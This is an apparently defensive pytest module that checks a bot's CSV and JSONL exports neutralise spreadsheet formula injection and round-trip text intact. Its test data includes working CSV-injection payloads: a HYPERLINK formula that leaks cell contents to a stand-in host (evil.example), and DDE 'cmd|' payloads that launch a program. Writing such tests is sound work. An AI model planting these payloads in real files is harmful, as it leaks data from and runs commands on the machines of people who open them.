"""No cell of any export runs as a formula, and what is taken in again is what it was (RELIABILITY:
CSV injection)."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st

from bot import exports, imports
from bot.db import Session
from bot.exports import Format, Kind
from bot.networks import InboundEvent
from bot.products import service as products
from bot.products.catalogue import guarded, unguarded
from bot.products.models import Brand, Product
from bot.replay.records import Columns, Records
from bot.suppliers.models import Coverage, Supplier
from bot.suppliers.partners import add_supplier
from tests.shops import furnish

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
NASTY = [
    '=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1＋1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "'not a formula",
    "a\r\n=1+1",
    'quoted "words", and commas; and\ttabs',
]


def is_formula(cell: str) -> bool:
    return cell.lstrip(" \xa0\u3000").startswith(STARTS)


@given(st.text() | st.tuples(st.sampled_from(["'", " ", "", *STARTS]), st.text()).map("".join))
def test_what_was_guarded_comes_back_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not is_formula(guarded(text))


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.fixture
def shop(session: Session) -> Session:
    """A shop in which everybody and everything has such a name, or says such a thing."""
    furnish(session, "x")
    session.flush()
    for table, column in (
        ("message", "text"),
        ("member", "name"),
        ("channel", "name"),
        ("suggestion", "words"),
        ("post", "title"),
        ("post", "text"),
        ("campaign", "name"),
    ):
        ids = session.execute(sa.text(f"SELECT id FROM {table} ORDER BY id")).scalars().all()
        for number, id in enumerate(ids):
            change = sa.text(f"UPDATE {table} SET {column} = :word WHERE id = :id")
            # Those with line breaks and commas first: there are few rows of some kinds.
            unique = f"{NASTY[-number % len(NASTY)]} {number}"
            session.execute(change, {"word": unique, "id": id})
    session.expire_all()
    return session


@pytest.mark.parametrize("kind", list(Kind))
@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_no_export_holds_a_formula_or_loses_a_word(shop: Session, kind: Kind) -> None:
    as_csv = read("\r\n".join(exports.lines(shop, kind, Format.CSV)))
    as_json = [json.loads(line) for line in exports.lines(shop, kind, Format.JSONL)]
    assert len(as_csv) - 1 == len(as_json) > 0
    assert [cell for row in as_csv for cell in row if is_formula(cell)] == []
    if kind in {Kind.MESSAGES, Kind.POSTS, Kind.SUGGESTIONS}:
        assert any(cell.startswith("'") for row in as_csv for cell in row)
    for cells, row in zip(as_csv[1:], as_json, strict=True):
        for cell, value in zip(cells, row.values(), strict=True):
            if isinstance(value, str):
                assert unguarded(cell) == value


def taken_in(session: Session, name: str, number: int) -> None:
    brand = session.put(Brand(name=f"{name} b{number}"))
    session.put(Product(sku=f"{name} s{number}", name=name, brand_id=brand.id, aliases=[name]))
    add_supplier(
        session, f"{name} p{number}", f"p{number}@maker.example", brands=[brand.name], products=[]
    )


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_partners_and_products_that_are_taken_in_again_are_the_same(session: Session) -> None:
    for number, name in enumerate(NASTY):
        taken_in(session, name.replace("|", "/"), number)  # "|" stands between names
    session.flush()
    partners = "\r\n".join(exports.lines(session, Kind.SUPPLIERS, Format.CSV)).encode()
    catalogue = "".join(products.export_catalogue(session)).encode()
    before = [everything(session), list(exports.lines(session, Kind.SUPPLIERS, Format.JSONL))]
    assert imports.suppliers(session, partners, by="test").changed == len(NASTY)
    plan = products.plan_import(session, catalogue)
    assert not plan.problems and len(plan.unchanged) == len(NASTY)
    session.execute(sa.delete(Coverage))
    session.execute(sa.delete(Supplier))
    session.execute(sa.delete(Product))
    session.execute(sa.delete(Brand))
    session.expire_all()
    products.apply(session, products.plan_import(session, catalogue))
    assert imports.suppliers(session, partners, by="test").added == len(NASTY)
    assert [
        everything(session),
        list(exports.lines(session, Kind.SUPPLIERS, Format.JSONL)),
    ] == before


def everything(session: Session) -> list[tuple[str, str, str, tuple[str, ...]]]:
    found = products.stored_entries(session).values()
    return [(entry.sku, entry.name, entry.brand, entry.aliases) for entry in found]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_messages_that_are_replayed_say_what_was_said(shop: Session, tmp_path: Path) -> None:
    file = tmp_path / "messages.csv"
    file.write_bytes("\r\n".join(exports.lines(shop, Kind.MESSAGES, Format.CSV)).encode())
    heard = Records(file, Columns(text="text", author="who", time="said_at"))
    said = [json.loads(line) for line in exports.lines(shop, Kind.MESSAGES, Format.JSONL)]
    assert [(one.text, one.author and one.author.name) for one in messages(heard)] == [
        (row["text"], row["who"]) for row in said
    ]
    assert all(one.occurred_at < datetime(2026, 3, 3, tzinfo=UTC) for one in messages(heard))


def messages(records: Records) -> Iterator[InboundEvent]:
    for event in records:
        assert isinstance(event, InboundEvent)
        yield event
